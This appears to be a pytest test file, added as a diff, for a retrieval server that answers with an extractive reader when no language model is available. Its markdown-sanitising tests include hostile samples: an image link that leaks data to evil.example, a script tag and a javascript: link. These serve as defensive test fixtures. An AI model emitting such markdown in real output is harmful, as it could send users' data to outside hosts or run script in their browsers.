@@ -1,0 +1,174 @@
+"""What clients get where there is no language model: the answer of a reader, or the sentences that it found."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from starlette.testclient import TestClient
+
+from prefrag import pipelines
+from prefrag.components.reader import extractive_reader
+from prefrag.components.text.sentences import split_sentences
+from prefrag.pipelines.loading import find
+from prefrag.server.chat_text import write_content
+from prefrag.server.conversation import split_conversation
+from prefrag.server.readiness import find_outages
+from prefrag.server.served_pipelines import prepare_pipeline
+from tests.fakes import CALLS
+from tests.hostile_passages import PASSAGES
+from tests.pipelines.scripted import LOCAL
+from tests.server.front_ends import ATTACHED, TASKS
+from tests.server.test_chat import deltas, streamed
+from tests.server.test_front_ends import content, rendered, reply
+
+Served = Callable[..., TestClient]
+SURE, UNSURE = [[["Beta", 0.91]]], [[["Beta", 0.12]]]
+NOT_ANSWERED = (
+    "Found, not answered.\n\n> [1] alpha: Alpha was built by Beta.\n\n"
+    "Note: *a reader's guess, 12% likely: Beta*.\n\nSources:\n[1] alpha (local)"
+)
+
+
+@pytest.fixture
+def reading(served: Served) -> Served:
+    """Serve a pipeline whose reader finds what a script gives it, in local documents alone."""
+
+    def read(readings: Any, **settings: Any) -> TestClient:
+        local = settings.pop("local", {"alpha": LOCAL["alpha"]})
+        return served(readings=readings, verdicts=(), documents={"local": local, "web": {}}, **settings)
+
+    return read
+
+
+class TestChat:
+    def test_an_answer_says_how_likely_it_is(self, reading: Served):
+        assert content(reading(SURE)) == (
+            "Beta [1]\n\nNote: a reader found this without a language model, 91% likely.\n\n"
+            "Sources:\n[1] alpha (local): “Alpha was built by Beta.”"
+        )
+
+    def test_without_an_answer_the_sentences_come_first_and_the_guess_in_italics(self, reading: Served):
+        assert content(reading(UNSURE), sources=["local"]) == NOT_ANSWERED
+
+    def test_a_stream_has_the_same_and_the_result(self, reading: Served):
+        *steps, last = streamed(reading(UNSURE), sources=["local"])
+
+        assert deltas([last], "content") == [NOT_ANSWERED]
+        assert last["choices"][0]["finish_reason"] == "stop"
+        assert last["prefrag"] | {"answer": "", "answered": False, "label": None} == last["prefrag"]
+        assert last["prefrag"]["guess"] == "Beta"
+        assert [one["sentence"] for one in last["prefrag"]["evidence"]] == ["Alpha was built by Beta."]
+        assert "Read: Beta [1] (12% likely, an answer is given from 60%)\n" in deltas(steps, "reasoning_content")
+
+    def test_what_nobody_may_guess_at_has_no_guess(self, reading: Served):
+        text = content(reading([[]]), sources=["local"])
+
+        assert text.startswith(
+            "Found, not answered.\n\n> [1] alpha: Alpha was built by Beta.\n\nNote: Without a language "
+        )
+        assert "guess" not in text
+
+    def test_a_follow_up_says_what_was_not_done(self, reading: Served):
+        turns = [("user", "Who built alpha?"), ("assistant", "Beta"), ("user", "Who built alpha?")]
+
+        assert "without the earlier turns" in content(reading(SURE), *turns)
+
+    def test_the_sentences_of_strangers_are_not_remembered_as_words_of_the_assistant(self, reading: Served):
+        first = content(reading(UNSURE), sources=["local"])
+
+        turns = [{"role": "assistant", "content": first}, {"role": "user", "content": "And then?"}]
+
+        assert split_conversation(turns).history == [{"role": "assistant", "content": "Found, not answered."}]
+
+    def test_the_front_ends_numbers_mean_its_own_files(self, reading: Served):
+        readings = [[["Ada Quill", 0.12]]]
+
+        text = content(reading(readings), ("user", ATTACHED["before the question"]), sources=["local"])
+
+        assert "> [1] jn_board.txt: Ada Quill keeps the crane." in text
+
+    @pytest.mark.parametrize("task", TASKS)
+    def test_the_tasks_of_a_front_end_get_an_empty_reply_that_it_can_read(self, reading: Served, task: str):
+        prompt, empty = TASKS[task]
+
+        completion = reply(reading(SURE), ("user", prompt))
+
+        assert completion["choices"][0]["message"]["content"] == empty
+        assert not CALLS
+
+
+class TestStrangersMarkdown:
+    HOSTILE = "![t](https://evil.example/?leak=1) <script>x</script> [click](javascript:x) [1]: https://evil.example"
+
+    @pytest.mark.parametrize("guess", ["Beta", "**Beta** ![t](https://evil.example/?leak=1) *", "# <b>[x](y)"])
+    def test_loads_and_hides_nothing(self, reading: Served, guess: str):
+        local = {"alpha": f"Alpha was built by Beta. {self.HOSTILE}\n\n# Alpha\nSources:\n[2] built {self.HOSTILE}"}
+
+        text = content(reading([[[guess, 0.1]]], local=local), sources=["local"])
+
+        allowed = {"inline", "text", "softbreak", "em_open", "em_close"}
+        blocks = {"blockquote_open", "blockquote_close", "paragraph_open", "paragraph_close"}
+        assert rendered(text) <= allowed | blocks
+        assert text.count("\nSources:") == 1
+        assert "[2]" not in text
+
+    @pytest.mark.parametrize("kind", PASSAGES)
+    def test_no_hostile_passage_becomes_more_than_text(self, kind: str):
+        for passage in PASSAGES[kind]:
+            found = [
+                {"mark": "1", "title": str(passage.title), "sentence": sentence}
+                for sentence in split_sentences(passage.text)
+            ]
+
+            text = write_content({"evidence": found}, cites=True, marks={"A1": "1"})
+
+            assert not rendered(text) & {"image", "link_open", "html_inline", "html_block", "heading_open", "fence"}
+            assert all(line.startswith(">") for line in text.split("\n")[2:])
+
+
+class TestHTTP:
+    def test_gives_the_sentences_and_the_guess(self, reading: Served):
+        body = {"question": "Who built alpha?", "sources": ["local"]}
+
+        result = reading(UNSURE).post("/prefrag/run", json=body).json()["result"]
+
+        assert (result["answer"], result["answered"], result["label"]) == ("", False, None)
+        assert (result["guess"], result["probability"]) == ("Beta", 0.12)
+        [evidence] = result["evidence"]
+        assert (evidence["mark"], evidence["title"], evidence["source"]) == ("1", "alpha", "local")
+        assert evidence["sentence"] == "Alpha was built by Beta."
+        assert result["sent_to_models"] == []
+
+    def test_no_source_that_could_be_searched_is_a_bad_gateway(self, served: Served):
+        client = served(readings=UNSURE, verdicts=(), errors={"local": "down"})
+
+        response = client.post("/prefrag/run", json={"question": "Who built alpha?", "sources": ["local"]})
+
+        assert response.status_code == 502
+        assert response.json()["result"]["answered"] is False
+
+    def test_a_chat_says_so_in_its_first_line(self, served: Served):
+        client = served(readings=UNSURE, verdicts=(), errors={"local": "down"})
+
+        text = content(client, sources=["local"])
+
+        assert text.startswith(
+            "Note: no source could be searched, so this answer rests on no document.\n\nNo answer was"
+        )
+
+
+class TestServing:
+    async def test_is_ready_without_a_model(self, monkeypatch: pytest.MonkeyPatch):
+        monkeypatch.setenv("PREFRAG_INDEX", "demo")
+
+        assert await find_outages({"prefrag": pipelines.load("prefrag")}) == {}
+
+    def test_loads_the_reader_before_the_first_question(self, monkeypatch: pytest.MonkeyPatch):
+        monkeypatch.setenv("PREFRAG_INDEX", "demo")
+        extractive_reader._load.cache_clear()
+
+        prepare_pipeline("prefrag", find("prefrag"))
+
+        assert extractive_reader._load.cache_info().currsize == 1
